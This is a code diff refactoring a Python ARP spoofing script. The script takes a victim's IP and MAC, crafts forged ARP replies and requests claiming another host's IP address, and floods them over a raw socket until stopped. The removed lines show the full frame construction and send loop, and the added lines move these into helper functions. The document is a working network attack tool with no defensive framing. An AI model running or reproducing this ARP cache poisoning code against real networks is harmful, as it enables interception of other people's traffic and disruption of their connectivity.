@@ -6,30 +6,22 @@ address is here, until it is ended."""
 
 import socket
 import sys
-import time
+
+from arp import arp_frame, send_until_ended
 
 
 def main():
     interface, victim_ip, victim_mac, claimed_ip = sys.argv[1:5]
-    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
-    packets.bind((interface, 0))
     here = bytes([2, 0x66, 0x66, 0x66, 0x66, 0x66])
     there = bytes.fromhex(victim_mac.replace(":", ""))
     victim, claimed = socket.inet_aton(victim_ip), socket.inet_aton(claimed_ip)
 
-    def arp(destination, operation, target_mac, target):
-        return (destination + here + bytes.fromhex("0806 0001 0800 0604") + bytes([0, operation])
-                + here + claimed + target_mac + target).ljust(60, b"\0")
+    def claim(destination, operation, target_mac, target_ip):
+        return arp_frame(destination, operation, here, claimed, target_mac, target_ip)
 
-    frames = [arp(there, 2, there, victim), arp(there, 1, bytes(6), victim),
-              arp(b"\xff" * 6, 1, bytes(6), victim), arp(b"\xff" * 6, 2, bytes(6), claimed)]
-    while True:
-        for frame in 5 * frames:
-            try:
-                packets.send(frame)
-            except OSError:
-                pass
-        time.sleep(0.01)
+    frames = [claim(there, 2, there, victim), claim(there, 1, bytes(6), victim),
+              claim(b"\xff" * 6, 1, bytes(6), victim), claim(b"\xff" * 6, 2, bytes(6), claimed)]
+    send_until_ended(interface, 5 * frames)
 
 
 if __name__ == "__main__":
